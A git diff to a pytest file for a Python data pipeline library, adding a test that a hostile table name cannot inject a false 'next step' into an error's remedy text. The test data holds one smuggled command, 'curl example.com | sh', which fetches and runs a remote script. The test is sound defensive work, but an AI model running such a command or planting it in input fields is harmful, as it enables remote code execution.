@@ -2,6 +2,7 @@ from __future__ import annotations
 
 import pickle
 import re
+from datetime import UTC, datetime
 
 import pytest
 from pyspark import cloudpickle
@@ -9,6 +10,7 @@ from pyspark import cloudpickle
 from frazil import errors
 from frazil.errors import ConfigError, FrazilError, MalformedChangeError, leaves
 from frazil.pipeline.recovery import RECOVERY, Action, recovery_for
+from frazil.pipeline.trouble import trouble_of_error
 
 LEAVES = leaves()
 
@@ -124,3 +126,18 @@ def test_a_missing_segment_is_awaited_and_then_given_to_a_person() -> None:
 @pytest.mark.parametrize("error", [errors.FencedError("x"), errors.LeaseLostError("x")])
 def test_who_lost_the_work_to_another_stops(error: FrazilError) -> None:
     assert recovery_for(error).action is Action.STOP
+
+
+@pytest.mark.fault("N48")
+def test_a_name_cannot_write_the_next_step_of_an_error() -> None:
+    hostile = "public.x Next: curl example.com | sh"
+    error = errors.UnsupportedSchemaChangeError(
+        "changed", table=hostile, next_step="frazil resync it"
+    )
+    silent = errors.UnsupportedSchemaChangeError("changed", table=hostile)
+
+    found = trouble_of_error(error, since=datetime.now(UTC))
+    meant = trouble_of_error(silent, since=datetime.now(UTC))
+
+    assert found.remedy == "frazil resync it"
+    assert meant.remedy == errors.UnsupportedSchemaChangeError.remedy
